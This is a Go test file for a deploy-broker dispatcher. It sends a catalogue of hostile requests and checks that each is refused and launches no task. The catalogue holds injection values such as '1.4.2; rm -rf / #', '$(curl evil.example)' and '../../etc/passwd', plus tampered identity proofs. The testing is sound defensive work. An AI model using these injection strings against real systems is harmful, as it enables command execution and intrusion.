package reliability

import (
	"context"
	"encoding/json"
	"fmt"
	"io"
	"log/slog"
	"net/http"
	"net/http/httptest"
	"strings"
	"sync/atomic"
	"testing"
	"time"

	"github.com/aws/aws-lambda-go/events"
	"github.com/aws/aws-lambda-go/lambda"
	"github.com/aws/aws-sdk-go-v2/aws"
	"github.com/aws/aws-sdk-go-v2/service/dynamodb"
	dbtypes "github.com/aws/aws-sdk-go-v2/service/dynamodb/types"
	"github.com/aws/aws-sdk-go-v2/service/ecs"
	ecstypes "github.com/aws/aws-sdk-go-v2/service/ecs/types"
	"github.com/aws/aws-sdk-go-v2/service/sqs"

	"github.com/deploy-broker/deploy-broker/internal/brokerview"
	"github.com/deploy-broker/deploy-broker/internal/config"
	"github.com/deploy-broker/deploy-broker/internal/dispatcher"
	"github.com/deploy-broker/deploy-broker/internal/ledger"
	"github.com/deploy-broker/deploy-broker/internal/localbroker"
	"github.com/deploy-broker/deploy-broker/internal/protocol"
	"github.com/deploy-broker/deploy-broker/internal/testkit/mototest"
	"github.com/deploy-broker/deploy-broker/internal/testkit/prooftest"
	"github.com/deploy-broker/deploy-broker/internal/testkit/testutil"
)

// hostile is one request a hostile or broken client might send.
type hostile struct {
	name string
	body func(h *harness) []byte
	// answered: the run id is well-formed, so the dispatcher answers with a
	// rejected record on the run's queue; otherwise only the audit log knows.
	answered bool
	reason   string // a substring the reason must contain
}

type harness struct {
	now    time.Time
	usedID string // a run id an earlier, different request already claimed
	testutil.SyncBuffer

	// Proofs of identity: requests are signed by id (a session of the
	// trusted role ci, made in moto) for topic, through moto's STS at sts.
	id       prooftest.Identity
	intruder prooftest.Identity // a session of a role in an account the broker does not trust
	topic    string
	sts      string
	// lure is a host a tampered proof names: the verifier must never call it.
	lure  *httptest.Server
	lured atomic.Int64
}

// audit is the dispatcher's log so far.
func (h *harness) audit() string { return h.String() }

// req builds a valid website run request, lets the case break it, and
// signs what the case made (a case that sets "proof" keeps its own).
func (h *harness) req(mutate func(m map[string]any)) []byte {
	return h.signMap(h.reqMap(mutate), h.id, h.topic, h.now)
}

// signMap adds a proof signed by id for topic at signedAt, bound to the
// request m is (if it decodes as one at all), unless m has a proof.
func (h *harness) signMap(m map[string]any, id prooftest.Identity, topic string, signedAt time.Time) []byte {
	b, _ := json.Marshal(m)
	if _, has := m["proof"]; has {
		return b
	}
	var r protocol.Request
	if json.Unmarshal(b, &r) != nil {
		return b
	}
	if err := prooftest.Sign(&r, id, topic, h.sts, signedAt); err != nil {
		panic(err)
	}
	m["proof"] = json.RawMessage(r.Proof)
	b, _ = json.Marshal(m)
	return b
}

// signed returns a validly signed request as a map, for a case to tamper
// with after signing.
func (h *harness) signed(mutate func(m map[string]any)) map[string]any {
	var m map[string]any
	_ = json.Unmarshal(h.req(mutate), &m)
	return m
}

func enc(m map[string]any) []byte {
	b, _ := json.Marshal(m)
	return b
}

// reqMap is a valid website run request as a map, changed by mutate.
func (h *harness) reqMap(mutate func(m map[string]any)) map[string]any {
	m := map[string]any{
		"v": protocol.RequestVersion, "kind": "run", "run_id": protocol.NewRunID(h.now), "job": "website",
		"params":       map[string]any{"version": "1.4.2"},
		"requested_at": h.now.Format(time.RFC3339Nano), "expires_at": h.now.Add(5 * time.Minute).Format(time.RFC3339Nano),
		"requester": map[string]any{"ci": "github-actions", "repository": "org/app", "actor": "mallory"},
	}
	if mutate != nil {
		mutate(m)
	}
	return m
}

func param(k string, v any) func(m map[string]any) {
	return func(m map[string]any) { m["params"].(map[string]any)[k] = v }
}

func field(k string, v any) func(m map[string]any) {
	return func(m map[string]any) {
		if v == nil {
			delete(m, k)
		} else {
			m[k] = v
		}
	}
}

func raw(s string) func(h *harness) []byte { return func(*harness) []byte { return []byte(s) } }

func hostileCatalogue() []hostile {
	r := func(mut ...func(m map[string]any)) func(h *harness) []byte {
		return func(h *harness) []byte {
			return h.req(func(m map[string]any) {
				for _, f := range mut {
					f(m)
				}
			})
		}
	}
	return []hostile{
		{"not JSON", raw("deploy please"), false, "malformed JSON"},
		{"empty body", raw(""), false, "empty"},
		{"JSON null", raw("null"), false, "protocol version 0"},
		{"JSON array", raw(`[{"v":1}]`), false, "must be an object"},
		{"unknown top-level field", r(field("command", "rm -rf /")), false, `unknown field "command"`},
		{"unknown requester field", r(func(m map[string]any) { m["requester"].(map[string]any)["role"] = "admin" }), false, `unknown field "role"`},
		{"300 KiB body", r(param("version", strings.Repeat("1", 300*1024))), false, "over the 262144-byte limit"},
		{"wrong version", r(field("v", 3)), false, "protocol version 3"},
		{"version as a string", r(field("v", "1")), false, `field "v"`},
		{"missing kind", r(field("kind", nil)), false, "no kind"},
		{"unknown kind", r(field("kind", "deploy")), false, `kind "deploy" is unknown`},
		{"cancel carrying a job", r(field("kind", "cancel")), false, "may carry only"},
		{"missing run id", r(field("run_id", nil)), false, "ULID"},
		{"lower-case run id", r(func(m map[string]any) { m["run_id"] = strings.ToLower(m["run_id"].(string)) }), false, "Crockford"},
		{"short run id", r(field("run_id", "01JD")), false, "26-character"},
		{"run id with U", r(field("run_id", "01JDUUUUUUUUUUUUUUUUUUUUUU")), false, "Crockford"},
		{"trailing data", func(h *harness) []byte { return append(h.req(nil), []byte(` {"v":1}`)...) }, false, "after the JSON object"},
		{"params not strings", r(param("version", 142)), false, `field "params`},
		{"requester missing", r(field("requester", nil)), false, "no requester"},
		{"requester with a control character", r(func(m map[string]any) { m["requester"].(map[string]any)["actor"] = "eve\x1b[2J" }), false, "control character"},
		{"invalid parameter name", r(param("Version", "1.4.2")), false, "parameter name"},
		{"65 parameters", r(func(m map[string]any) {
			p := m["params"].(map[string]any)
			for i := 0; i < 65; i++ {
				p[fmt.Sprintf("p%d", i)] = "x"
			}
		}), false, "more than the 64 allowed"},
		{"job name with ../", r(field("job", "../website")), false, "job name"},
		{"10 KiB value", r(param("version", strings.Repeat("9", 10*1024))), false, "over the 4096-byte limit"},
		{"expires before it was made", r(func(m map[string]any) { m["expires_at"] = m["requested_at"] }), false, "before it was made"},
		// Expired: its proof, signed when it was made, is stale too, so
		// it is refused without an answer (there is nobody proven to answer).
		{"expired", func(h *harness) []byte {
			m := h.reqMap(func(m map[string]any) {
				m["requested_at"] = h.now.Add(-30 * time.Minute).Format(time.RFC3339)
				m["expires_at"] = h.now.Add(-20 * time.Minute).Format(time.RFC3339)
			})
			return h.signMap(m, h.id, h.topic, h.now.Add(-30*time.Minute))
		}, false, "stale proof"},

		// Proofs of identity (issue 12). Each is refused before anything
		// is created: no queue, no ledger item, no task; the audit line
		// says why. Default moto does not check SigV4 signatures: these
		// cases prove the dispatcher's own checks (binding to the request
		// and the broker, freshness, endpoint, action) and, for the
		// principal, that STS's answer is what decides; that a signature
		// over edited headers fails is proven with moto's signature
		// checking switched on (TestTamperedProofFailsAtSTS, and
		// identity.TestMotoSignatureIsChecked).
		{"proof copied onto a request with a new run id", func(h *harness) []byte {
			m := h.signed(nil)
			m["run_id"] = protocol.NewRunID(h.now)
			return enc(m)
		}, false, "proof bound to another request"},
		{"proof copied onto a request with a changed parameter", func(h *harness) []byte {
			m := h.signed(nil)
			m["params"] = map[string]any{"version": "6.6.6"}
			return enc(m)
		}, false, "proof bound to another request"},
		{"proof copied onto a cancel of another run", func(h *harness) []byte {
			m := h.signed(nil)
			delete(m, "job")
			delete(m, "params")
			delete(m, "requester")
			m["kind"], m["run_id"] = "cancel", h.usedID
			return enc(m)
		}, false, "proof bound to another request"},
		{"claimed requester edited after signing", func(h *harness) []byte {
			m := h.signed(nil)
			m["requester"].(map[string]any)["actor"] = "alice"
			return enc(m)
		}, false, "proof bound to another request"},
		{"proof for another broker's topic", func(h *harness) []byte {
			return h.signMap(h.reqMap(nil), h.id, strings.Replace(h.topic, ":rel-broker", ":other-broker", 1), h.now)
		}, false, "audience"},
		{"stale proof (signed 16 minutes ago)", func(h *harness) []byte {
			m := h.reqMap(func(m map[string]any) {
				m["requested_at"] = h.now.Add(-14 * time.Minute).Format(time.RFC3339Nano)
				m["expires_at"] = h.now.Add(time.Minute).Format(time.RFC3339Nano)
			})
			return h.signMap(m, h.id, h.topic, h.now.Add(-16*time.Minute))
		}, false, "over 15m0s ago"},
		{"proof signed long before the request", func(h *harness) []byte {
			return h.signMap(h.reqMap(nil), h.id, h.topic, h.now.Add(-10*time.Minute))
		}, false, "before the request was made"},
		{"proof naming another host (never contacted)", func(h *harness) []byte {
			m := h.signed(nil)
			m["proof"].(map[string]any)["url"] = h.lure.URL + "/"
			return enc(m)
		}, false, "STS endpoint not allowed"},
		{"proof naming the real STS instead of the broker's", func(h *harness) []byte {
			m := h.signed(nil)
			m["proof"].(map[string]any)["url"] = "https://sts.us-east-1.amazonaws.com/"
			return enc(m)
		}, false, "STS endpoint not allowed"},
		{"proof with another action", func(h *harness) []byte {
			m := h.signed(nil)
			m["proof"].(map[string]any)["body"] = "Action=AssumeRole&Version=2011-06-15&RoleArn=arn:aws:iam::123456789012:role/admin&RoleSessionName=x"
			return enc(m)
		}, false, "malformed proof"},
		{"proof as a GET", func(h *harness) []byte {
			m := h.signed(nil)
			m["proof"].(map[string]any)["method"] = "GET"
			return enc(m)
		}, false, "malformed proof"},
		{"proof with an unsigned extra header", func(h *harness) []byte {
			m := h.signed(nil)
			p := m["proof"].(map[string]any)
			p["headers"] = append(p["headers"].([]any), map[string]any{"name": "X-Amz-Security-Token", "value": "stolen"})
			return enc(m)
		}, false, "malformed proof"},
		{"proof that is not an object", r(field("proof", "AKIA...")), false, "malformed proof"},
		{"no proof", func(h *harness) []byte { return enc(h.reqMap(nil)) }, false, "carries no proof of identity"},
		{"old deploy-trigger (version 1, no proof)", func(h *harness) []byte {
			return enc(h.reqMap(field("v", 1)))
		}, false, "from a deploy-trigger that sends no proof of identity"},
		{"20 KiB proof", r(field("proof", map[string]any{"v": 1, "body": strings.Repeat("A", 20*1024)})), false, "over the 16384-byte limit"},

		// Well-formed run ids from a verified principal: the dispatcher
		// answers on the run's queue (exit 241 in deploy-trigger).
		{"principal the broker does not trust", func(h *harness) []byte {
			return h.signMap(h.reqMap(nil), h.intruder, h.topic, h.now)
		}, true, `arn:aws:sts::999999999999:assumed-role/intruder/mallory may not run job "website"`},
		{"principal outside the job's allowed_principals", r(field("job", "migrate-db"), field("params", map[string]any{})), true,
			`arn:aws:sts::111111111111:assumed-role/ci/gha-org-app-1 may not run job "migrate-db": it is not in the job's allowed_principals`},
		{"far-future expiry", func(h *harness) []byte {
			return h.req(func(m map[string]any) { m["expires_at"] = h.now.Add(48 * time.Hour).Format(time.RFC3339) })
		}, true, "longer than the broker's limit"},
		// Dated an hour ahead, by a clock an hour ahead: its proof is
		// signed in the future too, and refused without an answer.
		{"dated in the future", func(h *harness) []byte {
			m := h.reqMap(func(m map[string]any) {
				m["requested_at"] = h.now.Add(time.Hour).Format(time.RFC3339)
				m["expires_at"] = h.now.Add(time.Hour + 5*time.Minute).Format(time.RFC3339)
			})
			return h.signMap(m, h.id, h.topic, h.now.Add(time.Hour))
		}, false, "in the future"},
		{"old run id", func(h *harness) []byte {
			return h.req(func(m map[string]any) { m["run_id"] = protocol.NewRunID(h.now.Add(-24 * time.Hour)) })
		}, true, "was not made for this request"},
		{"unknown job", r(field("job", "payroll")), true, `job "payroll" is not in this broker's catalogue`},
		{"missing required parameter", r(field("params", map[string]any{})), true, `parameter "version" is required`},
		{"undeclared parameter", r(param("debug", "true")), true, `parameter "debug" is not declared`},
		{"shell metacharacters", r(param("version", "1.4.2; rm -rf / #")), true, "does not match the pattern"},
		{"command substitution", r(param("version", "$(curl evil.example)")), true, "does not match the pattern"},
		{"newline in a value", r(param("version", "1.4.2\n--force")), true, "control character"},
		{"NUL in a value", r(param("version", "1.4.2\x00")), true, "control character"},
		{"path traversal", r(param("version", "../../etc/passwd")), true, "does not match the pattern"},
		{"enum value not allowed", r(param("colour", "red")), true, "must be one of blue, green"},
		{"int out of range", r(param("replicas", "1000")), true, "at most 10"},
		{"int not a number", r(param("replicas", "2; reboot")), true, "whole number"},
		{"long value within the protocol limit", r(param("version", strings.Repeat("1", 3000))), true, "bytes long"},
		{"reused run id", func(h *harness) []byte {
			return h.req(func(m map[string]any) { m["run_id"] = h.usedID; m["params"] = map[string]any{"version": "6.6.6"} })
		}, false, "already used by a different request"},
	}
}

// TestHostileRequestsAreRefusedAndLaunchNothing sends every request of the
// catalogue to the dispatcher, as SNS events through lambda.NewHandler, and
// checks each is refused with a clear reason and that no task ever starts.
func TestHostileRequestsAreRefusedAndLaunchNothing(t *testing.T) {
	srv, awsCfg := mototest.Start(t)
	ctx := context.Background()
	h := &harness{now: time.Now().UTC(), sts: srv.URL}
	h.lure = httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, _ *http.Request) { h.lured.Add(1) }))
	defer h.lure.Close()
	h.id = prooftest.MustAssume(t, awsCfg, "arn:aws:iam::111111111111:role/ci", "gha-org-app-1")
	h.intruder = prooftest.MustAssume(t, awsCfg, "arn:aws:iam::999999999999:role/intruder", "mallory")
	d, cfg, res := newDispatcher(t, awsCfg, h, srv.URL)
	h.topic = res.TopicARN
	handler := lambda.NewHandler(d.Handle)
	invoke := func(body []byte) {
		ev, _ := json.Marshal(events.SNSEvent{Records: []events.SNSEventRecord{{EventSource: "aws:sns", EventVersion: "1.0",
			SNS: events.SNSEntity{Type: "Notification", MessageID: protocol.NewRunID(time.Now()), TopicArn: res.TopicARN, Message: string(body), Timestamp: time.Now()}}}})
		if _, err := handler.Invoke(ctx, ev); err != nil {
			t.Fatalf("handler failed instead of refusing: %v", err)
		}
	}
	ecsc := ecs.NewFromConfig(awsCfg)
	sq := sqs.NewFromConfig(awsCfg)
	db := dynamodb.NewFromConfig(awsCfg)

	// One legitimate run first, so that "reused run id" has an id to reuse.
	legit := h.req(nil)
	var first protocol.Request
	_ = json.Unmarshal(legit, &first)
	h.usedID = first.RunID
	invoke(legit)
	tasksBefore := countTasks(t, ecsc, res.ClusterARN)
	if tasksBefore != 1 {
		t.Fatalf("the legitimate request started %d tasks, want 1", tasksBefore)
	}

	cases := hostileCatalogue()
	if len(cases) < 60 {
		t.Fatalf("only %d hostile requests; the suite promises at least 60", len(cases))
	}
	queuesBefore := listQueues(t, sq, cfg)
	answeredOn := map[string]bool{} // the queues the answered cases were answered on
	refused := 0
	for _, c := range cases {
		t.Run(c.name, func(t *testing.T) {
			body := c.body(h)
			before := len(h.audit())
			invoke(body)
			lines := h.audit()[before:]
			var reason string
			if c.answered {
				var req protocol.Request
				if err := json.Unmarshal(body, &req); err != nil {
					t.Fatal(err)
				}
				var url string
				reason, url = rejectedReason(t, sq, db, res, req.RunID)
				if answeredOn[url] {
					t.Errorf("two requests were answered on one queue %s", url)
				}
				answeredOn[url] = true
			} else {
				reason = decisionReason(t, lines)
			}
			if !strings.Contains(reason, c.reason) {
				t.Errorf("reason %q does not say %q", reason, c.reason)
			}
			if strings.Contains(reason, "\n") || len(reason) > 600 {
				t.Errorf("reason is not one clear line: %q", reason)
			}
			if strings.Contains(lines, `"decision":"accepted"`) {
				t.Errorf("hostile request was accepted: %s", lines)
			}
			if !c.answered && strings.Contains(lines, `"decision":"refused"`) {
				// Refused for its proof: nothing at all was created.
				var req protocol.Request
				if json.Unmarshal(body, &req) == nil && req.RunID != "" && req.RunID != h.usedID {
					if _, err := sq.GetQueueUrl(ctx, &sqs.GetQueueUrlInput{QueueName: aws.String(protocol.QueueName(cfg.Broker.Name, req.RunID))}); err == nil {
						t.Errorf("a request refused for its proof has a run queue")
					}
					if _, ok, _ := brokerview.GetRunPointer(ctx, db, res.ViewTable, req.RunID); ok {
						t.Errorf("a request refused for its proof has a run pointer")
					}
					it, err := db.GetItem(ctx, &dynamodb.GetItemInput{TableName: aws.String(res.LedgerTable),
						Key: map[string]dbtypes.AttributeValue{ledger.AttrRunID: &dbtypes.AttributeValueMemberS{Value: req.RunID}}, ConsistentRead: aws.Bool(true)})
					if err != nil || it.Item != nil {
						t.Errorf("a request refused for its proof has a ledger item (%v)", err)
					}
				}
			}
			refused++
		})
	}
	if n := countTasks(t, ecsc, res.ClusterARN); n != tasksBefore {
		t.Errorf("%d tasks exist after the hostile requests, want %d: something was launched", n, tasksBefore)
	}
	answered := 0
	for _, c := range cases {
		if c.answered {
			answered++
		}
	}
	// Each answered case got a queue of its own: made for it, or the spare
	// the legitimate run left for its requester (issue 26), which a hostile
	// request of that requester may take.
	spares := 0
	for url := range answeredOn {
		if queuesBefore[url] {
			spares++
		}
	}
	if n := len(listQueues(t, sq, cfg)) - len(queuesBefore); len(answeredOn) != answered || spares > 1 || n != answered-spares {
		t.Errorf("%d run queues were made and %d spares taken for %d distinct answers, want one queue per answered case (%d)", n, spares, len(answeredOn), answered)
	}
	if n := h.lured.Load(); n != 0 {
		t.Errorf("the verifier contacted the host a proof named %d times", n)
	}
	t.Logf("RESULT hostile_requests=%d refused=%d tasks_launched=%d", len(cases), refused, countTasks(t, ecsc, res.ClusterARN)-tasksBefore)
}

// newDispatcher provisions the reliability broker in moto and returns its
// dispatcher, writing its log to logw.
func newDispatcher(t *testing.T, awsCfg aws.Config, logw io.Writer, stsEndpoint string) (*dispatcher.Dispatcher, *config.Config, *localbroker.Resources) {
	t.Helper()
	cfg, err := config.Load("testdata/broker.yaml")
	if err != nil {
		t.Fatal(err)
	}
	res, err := localbroker.Provision(context.Background(), awsCfg, cfg)
	if err != nil {
		t.Fatal(err)
	}
	d := dispatcher.New(cfg, dispatcher.Settings{
		Cluster: res.ClusterARN, LedgerTable: res.LedgerTable, Subnets: res.Subnets, SecurityGroups: res.SecurityGroups,
		AccountID: res.AccountID, Region: res.Region, TaskDefinitions: res.TaskDefinitions, STSEndpoint: stsEndpoint,
	}, dispatcher.Clients{SQS: sqs.NewFromConfig(awsCfg), ECS: ecs.NewFromConfig(awsCfg), Dynamo: dynamodb.NewFromConfig(awsCfg)},
		slog.New(slog.NewJSONHandler(logw, nil)))
	return d, cfg, res
}

func countTasks(t *testing.T, c *ecs.Client, cluster string) int {
	t.Helper()
	n := 0
	for _, st := range []ecstypes.DesiredStatus{ecstypes.DesiredStatusRunning, ecstypes.DesiredStatusStopped} {
		out, err := c.ListTasks(context.Background(), &ecs.ListTasksInput{Cluster: aws.String(cluster), DesiredStatus: st})
		if err != nil {
			t.Fatal(err)
		}
		n += len(out.TaskArns)
	}
	return n
}

// decisionReason returns the reason of the one non-accepting decision line
// in a stretch of audit log.
func decisionReason(t *testing.T, lines string) string {
	t.Helper()
	var found []map[string]any
	for _, l := range strings.Split(strings.TrimSpace(lines), "\n") {
		var m map[string]any
		if json.Unmarshal([]byte(l), &m) == nil && m["msg"] == "decision" {
			found = append(found, m)
		}
	}
	if len(found) != 1 {
		t.Fatalf("want exactly one audit decision line, got %d:\n%s", len(found), lines)
	}
	if d := found[0]["decision"]; d != dispatcher.DecisionMalformed && d != dispatcher.DecisionReplayed && d != dispatcher.DecisionRejected && d != dispatcher.DecisionRefused {
		t.Errorf("decision %v, want a refusal", d)
	}
	reason, _ := found[0]["reason"].(string)
	return reason
}

// listQueues lists the broker's run queues (spares included).
func listQueues(t *testing.T, c *sqs.Client, cfg *config.Config) map[string]bool {
	t.Helper()
	out, err := c.ListQueues(context.Background(), &sqs.ListQueuesInput{QueueNamePrefix: aws.String(cfg.Broker.Name + "-")})
	if err != nil {
		t.Fatal(err)
	}
	urls := map[string]bool{}
	for _, u := range out.QueueUrls {
		urls[u] = true
	}
	return urls
}

// rejectedReason reads the rejected record from the run's queue, found as
// deploy-trigger finds it: through the run pointer (the queue may be a
// spare, not named after the run).
func rejectedReason(t *testing.T, c *sqs.Client, db *dynamodb.Client, res *localbroker.Resources, runID string) (string, string) {
	t.Helper()
	ctx := context.Background()
	url, ok, err := brokerview.GetRunPointer(ctx, db, res.ViewTable, runID)
	if err != nil || !ok {
		t.Fatalf("the dispatcher wrote no run pointer to answer on (%v)", err)
	}
	q, err := c.GetQueueUrl(ctx, &sqs.GetQueueUrlInput{QueueName: aws.String(url[strings.LastIndex(url, "/")+1:])})
	if err != nil {
		t.Fatalf("the dispatcher made no queue to answer on: %v", err)
	}
	out, err := c.ReceiveMessage(ctx, &sqs.ReceiveMessageInput{QueueUrl: q.QueueUrl, MaxNumberOfMessages: 10, WaitTimeSeconds: 1})
	if err != nil {
		t.Fatal(err)
	}
	for _, m := range out.Messages {
		recs, err := protocol.DecodeMessage([]byte(aws.ToString(m.Body)))
		if err != nil {
			t.Fatal(err)
		}
		for _, r := range recs {
			if r.Type == protocol.TypeAccepted {
				t.Fatalf("the run was accepted")
			}
			if r.Type == protocol.TypeRejected {
				return r.Rejected.Reason, url
			}
		}
	}
	t.Fatalf("no rejected record on the run's queue")
	return "", ""
}
